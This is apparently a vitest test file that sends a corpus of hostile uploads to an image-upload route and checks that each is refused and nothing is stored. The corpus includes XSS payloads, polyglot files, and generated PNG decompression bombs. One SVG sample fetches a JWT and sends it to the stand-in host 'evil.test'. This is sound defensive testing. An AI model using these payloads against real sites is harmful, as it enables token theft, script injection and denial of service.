import { once } from 'node:events';
import { readdirSync } from 'node:fs';
import { createDeflate, deflateSync } from 'node:zlib';
import { count } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { images } from '../src/db/schema/index.js';
import {
  createPrincipal,
  createTestApp,
  multipartBody,
  samplePhoto,
  type Principal,
  type TestContext,
} from './helpers.js';

/**
 * A corpus of hostile uploads through the real route (multipart, in-process): each is refused with a 4xx and a
 * message for a person, nothing of it is stored, and the server's memory stays bounded while it reads them.
 */

let ctx: TestContext;
let seller: Principal;

// ---------------------------------------------------------------------------------------------------------------
// Hand-made files.

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(data: Buffer): number {
  let c = 0xffffffff;
  for (const byte of data) c = (CRC_TABLE[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

/** A PNG chunk: length, type, data and the CRC of type and data, so decoders take it as valid. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** An 8-bit greyscale PNG of the given size whose IDAT is `idat` (zlib data of filter bytes and pixels). */
function png(width: number, height: number, idat: Buffer): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** zlib of `total` zero bytes, streamed so the zeros are never all in memory at once. */
async function deflatedZeros(total: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (c: Buffer) => out.push(c));
  const zeros = Buffer.alloc(1 << 20);
  for (let left = total; left > 0; left -= zeros.length) deflate.write(zeros.subarray(0, Math.min(left, zeros.length)));
  deflate.end();
  await once(deflate, 'end');
  return Buffer.concat(out);
}

/** A real small JPEG whose frame header (SOF0) is rewritten to claim another size. */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#468' } })
    .jpeg({ progressive: false })
    .toBuffer();
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  expect(sof).toBeGreaterThan(0);
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return jpeg;
}

/** A WebP header (VP8X) claiming a canvas of the given size, with no image data. */
function webpClaiming(width: number, height: number): Buffer {
  const vp8x = Buffer.alloc(10);
  vp8x.writeUIntLE(width - 1, 4, 3);
  vp8x.writeUIntLE(height - 1, 7, 3);
  const chunk = Buffer.concat([Buffer.from('VP8X'), Buffer.from([10, 0, 0, 0]), vp8x]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + chunk.length);
  return Buffer.concat([Buffer.from('RIFF'), size, Buffer.from('WEBP'), chunk]);
}

const SCRIPT = '<html><body><script>alert(document.cookie)</script></body></html>';

interface Hostile {
  name: string;
  filename: string;
  contentType: string;
  make: () => Promise<Buffer> | Buffer;
  status: number;
  message: RegExp;
}

const NOT_READABLE = /not an image we can read/;
const DAMAGED = /damaged or incomplete|not an image we can read/;
const ONLY_PHOTOS = /^Only JPEG, PNG, WebP.* photos are accepted/;
const TOO_MANY_PIXELS = /larger than 40 megapixels/;

const CORPUS: Hostile[] = [
  {
    name: 'a text file named .jpg',
    filename: 'phone.jpg',
    contentType: 'image/jpeg',
    make: () => Buffer.from('Samsung Galaxy A52, 2 years old, good condition. Call 01712-345678.\n'.repeat(20)),
    status: 422,
    message: NOT_READABLE,
  },
  {
    name: 'an HTML page named .png',
    filename: 'phone.png',
    contentType: 'image/png',
    make: () => Buffer.from(SCRIPT),
    status: 422,
    message: NOT_READABLE,
  },
  {
    name: 'an SVG with a script',
    filename: 'phone.svg',
    contentType: 'image/svg+xml',
    make: () =>
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480" onload="alert(1)">' +
          '<script>fetch("/api/jwt").then(r => r.text()).then(t => new Image().src = "//evil.test/?" + t)</script>' +
          '<rect width="640" height="480" fill="#223"/></svg>',
      ),
    status: 415,
    message: ONLY_PHOTOS,
  },
  {
    name: 'an SVG disguised as a JPEG',
    filename: 'phone.jpg',
    contentType: 'image/jpeg',
    make: () =>
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'),
    status: 415,
    message: ONLY_PHOTOS,
  },
  {
    name: 'a polyglot: a GIF header followed by HTML and script',
    filename: 'phone.gif',
    contentType: 'image/gif',
    make: () => Buffer.concat([Buffer.from('GIF89a'), Buffer.from([1, 0, 1, 0, 0, 0, 0]), Buffer.from(SCRIPT)]),
    status: 422,
    message: NOT_READABLE,
  },
  {
    name: 'a polyglot: a JPEG header (SOI, JFIF) followed by HTML and script',
    filename: 'phone.jpg',
    contentType: 'image/jpeg',
    make: () =>
      Buffer.concat([
        Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
        Buffer.from('JFIF\0'),
        Buffer.from([1, 1, 0, 0, 1, 0, 1, 0, 0]),
        Buffer.from(SCRIPT),
      ]),
    status: 422,
    message: DAMAGED,
  },
  {
    name: 'a decompression bomb: a 30,000 x 30,000 PNG (900 megapixels) in a few kilobytes',
    filename: 'phone.png',
    contentType: 'image/png',
    make: () => png(30_000, 30_000, deflateSync(Buffer.alloc(200 * 30_001), { level: 9 })),
    status: 413,
    message: TOO_MANY_PIXELS,
  },
  {
    name: 'a complete decompression bomb: a valid 10,000 x 10,000 PNG (100 MB of pixels) of about 100 KB',
    filename: 'phone.png',
    contentType: 'image/png',
    make: async () => png(10_000, 10_000, await deflatedZeros(10_000 * 10_001)),
    status: 413,
    message: TOO_MANY_PIXELS,
  },
  {
    name: 'a JPEG whose header claims 30,000 x 30,000',
    filename: 'phone.jpg',
    contentType: 'image/jpeg',
    make: () => jpegClaiming(30_000, 30_000),
    status: 413,
    message: TOO_MANY_PIXELS,
  },
  {
    name: 'a WebP header claiming 16,383 x 16,383 with no pixels',
    filename: 'phone.webp',
    contentType: 'image/webp',
    make: () => webpClaiming(16_383, 16_383),
    status: 422,
    message: NOT_READABLE,
  },
  {
    name: 'a truncated JPEG',
    filename: 'phone.jpg',
    contentType: 'image/jpeg',
    make: async () => {
      const photo = await samplePhoto(5, 1200, 900);
      return photo.subarray(0, Math.floor(photo.length / 2));
    },
    status: 422,
    message: DAMAGED,
  },
  {
    name: 'an empty file',
    filename: 'phone.jpg',
    contentType: 'image/jpeg',
    make: () => Buffer.alloc(0),
    status: 422,
    message: NOT_READABLE,
  },
  {
    name: 'a Windows program named .jpg',
    filename: 'phone.jpg',
    contentType: 'image/jpeg',
    make: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510, 0x90), Buffer.from('This program cannot be run')]),
    status: 422,
    message: NOT_READABLE,
  },
  {
    name: 'a 50 MB upload',
    filename: 'phone.jpg',
    contentType: 'image/jpeg',
    make: () => Buffer.alloc(50 * 1024 * 1024, 0xff),
    status: 413,
    message: /larger than 10 MB/,
  },
];

// ---------------------------------------------------------------------------------------------------------------

async function upload(filename: string, contentType: string, data: Buffer) {
  const body = multipartBody('image', filename, contentType, data);
  return ctx.app.inject({
    method: 'POST',
    url: '/api/images',
    payload: body.payload,
    headers: { ...body.headers, ...seller.headers },
  });
}

async function stored() {
  const [row] = await ctx.app.db.select({ n: count() }).from(images);
  return { rows: row?.n ?? 0, files: readdirSync(ctx.config.storageDir).length };
}

beforeAll(async () => {
  ctx = await createTestApp();
  seller = await createPrincipal(ctx.app, 'Seller', 'Upload Seller');
});
afterAll(() => ctx.close());

describe('hostile uploads', () => {
  const MB = 1024 * 1024;
  let baseline = 0;
  let peak = 0;
  let sampler: NodeJS.Timeout | undefined;

  beforeAll(async () => {
    // Warm up the route and the image library with one good photo, then measure from there.
    expect((await upload('warm-up.jpg', 'image/jpeg', await samplePhoto(1, 640, 480))).statusCode).toBe(201);
    baseline = process.memoryUsage().rss;
    peak = baseline;
    sampler = setInterval(() => {
      peak = Math.max(peak, process.memoryUsage().rss);
    }, 5);
  });
  afterAll(() => clearInterval(sampler));

  for (const hostile of CORPUS) {
    it(`refuses ${hostile.name} with ${hostile.status}, and stores nothing`, async () => {
      const before = await stored();
      const res = await upload(hostile.filename, hostile.contentType, await hostile.make());
      expect(res.statusCode, res.body).toBe(hostile.status);
      expect(res.json()).toEqual({ error: expect.any(String), message: expect.stringMatching(hostile.message) });
      expect(await stored()).toEqual(before);
      peak = Math.max(peak, process.memoryUsage().rss);
    });
  }

  it('answers at once a form whose only part has no name, however long the part (busboy stalled on these)', async () => {
    const parts = ['', 'X-Note: hello\r\n', 'Content-Disposition: attachment\r\n'];
    for (const headers of parts) {
      for (const size of [100, 20_000, 70_000, 5 * MB]) {
        const payload = Buffer.concat([
          Buffer.from(`--formboundary\r\n${headers}\r\n`),
          Buffer.alloc(size, 0x61),
          Buffer.from('\r\n--formboundary--\r\n'),
        ]);
        const res = await ctx.app.inject({
          method: 'POST',
          url: '/api/images',
          payload,
          headers: { 'content-type': 'multipart/form-data; boundary=formboundary', ...seller.headers },
        });
        expect(res.statusCode, `${JSON.stringify(headers)}, ${size} bytes`).toBe(400);
        expect(res.json().message).toBe('Send the photo in the field "image".');
      }
    }
  });

  it('re-encodes a whole JPEG with a script appended: nothing of the script is stored or served', async () => {
    const photo = await samplePhoto(9, 800, 600);
    const res = await upload('phone.jpg', 'image/jpeg', Buffer.concat([photo, Buffer.from(SCRIPT)]));
    expect(res.statusCode, res.body).toBe(201);
    const { url, srcset } = res.json<{ data: { url: string; srcset: string } }>().data;
    for (const variant of [url, ...srcset.split(', ').map((s) => s.split(' ')[0] ?? '')]) {
      const served = await ctx.app.inject({ method: 'GET', url: variant });
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe('image/webp');
      expect(served.rawPayload.includes(Buffer.from('<script'))).toBe(false);
      expect((await sharp(served.rawPayload).metadata()).format).toBe('webp');
    }
  });

  it('keeps the memory it takes to refuse the corpus under 200 MB', () => {
    const grew = (peak - baseline) / MB;
    console.info(`hostile uploads: RSS ${Math.round(baseline / MB)} MB at start, peak +${Math.round(grew)} MB`);
    expect(grew).toBeLessThan(200);
  });

  it('is still up', async () => {
    const res = await ctx.app.inject({ method: 'GET', url: '/api/health' });
    expect(res.statusCode).toBe(200);
  });
});
